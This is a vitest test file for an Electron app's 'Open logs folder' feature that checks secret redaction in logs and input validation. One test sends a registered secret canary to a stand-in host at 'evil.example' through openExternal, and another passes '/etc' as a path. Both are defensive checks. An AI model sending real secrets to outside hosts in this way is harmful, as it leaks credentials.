import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { request } from 'undici'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createHandlers } from '../../electron/core/api/handlers'
import { createServices, type Services } from '../../electron/core/services'
import { createHarnessHost } from '../../electron/harness/harness-host'
import { startHarness, type Harness } from '../../electron/harness/server'
import { scanFolder } from '../support/secret-canaries'

/** "Open logs folder" through the harness, as the app's Help menu / Diagnose page calls it. */
const dir = mkdtempSync(join(tmpdir(), 'aissist-logs-harness-'))
const canary = 'CANARY-logs-harness-3c9e1f7a'
const shown: string[] = []
let services: Services
let harness: Harness

beforeAll(async () => {
  mkdirSync(join(dir, 'renderer'), { recursive: true })
  writeFileSync(join(dir, 'renderer', 'index.html'), '<!doctype html><html><head></head><body></body></html>')
  services = createServices({ dataDir: join(dir, 'data'), keychainService: `aissist-logs-harness-${process.pid}` })
  services.secrets.add(canary)
  harness = await startHarness({ rendererDir: join(dir, 'renderer'), services, host: createHarnessHost(join(dir, 'exports'), (l) => shown.push(l)), handlers: createHandlers() })
})
afterAll(async () => {
  await harness.close()
  rmSync(dir, { recursive: true, force: true })
})

const call = async (channel: string, body: unknown): Promise<unknown> => {
  const r = await request(`${harness.url}/api/call/${channel}`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'x-harness-token': harness.token },
    body: JSON.stringify(body)
  })
  return r.body.json()
}

describe('Open logs folder', () => {
  it('shows <data>/logs, where the redacted log file is', async () => {
    // A failing call is logged (dispatch logs every failure), with a registered secret in it.
    expect(await call('openExternal', { url: `https://evil.example/?k=${canary}` })).toMatchObject({ ok: false, error: { code: 'external-url-refused' } })
    const answer = await call('openLogsFolder', {})
    expect(answer).toEqual({ ok: true, value: { path: join(dir, 'data', 'logs') } })
    expect(shown).toContain(`show folder: ${join(dir, 'data', 'logs')}`)
    const log = readFileSync(join(dir, 'data', 'logs', 'aissist.log'), 'utf8')
    expect(log).toContain('call failed')
    expect(log).toContain('external-url-refused')
    expect(log).toContain('[REDACTED]')
    expect(scanFolder(join(dir, 'data'), [canary])).toEqual([])
    expect(existsSync(services.logger.file!)).toBe(true)
  })

  it('refuses input it does not take', async () => {
    expect(await call('openLogsFolder', { path: '/etc' })).toMatchObject({ ok: false, error: { code: 'invalid-input' } })
  })
})
